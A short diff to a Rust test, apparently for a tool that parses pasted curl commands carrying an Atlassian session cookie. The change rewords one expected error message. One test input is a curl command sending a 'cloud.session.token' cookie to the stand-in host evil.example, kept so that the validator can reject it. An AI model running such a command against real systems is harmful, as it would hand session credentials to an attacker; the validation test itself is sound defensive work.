@@ -77,7 +77,7 @@ fn a_broken_paste_says_what_is_wrong() {
         ("a.b\n", "three parts"),
         (
             "curl 'https://evil.example/' -b 'cloud.session.token=a.b.c'\n",
-            "only to evil.example",
+            "only to other hosts",
         ),
         (
             "curl 'https://admin.atlassian.com/' -b 'x=1'\n",
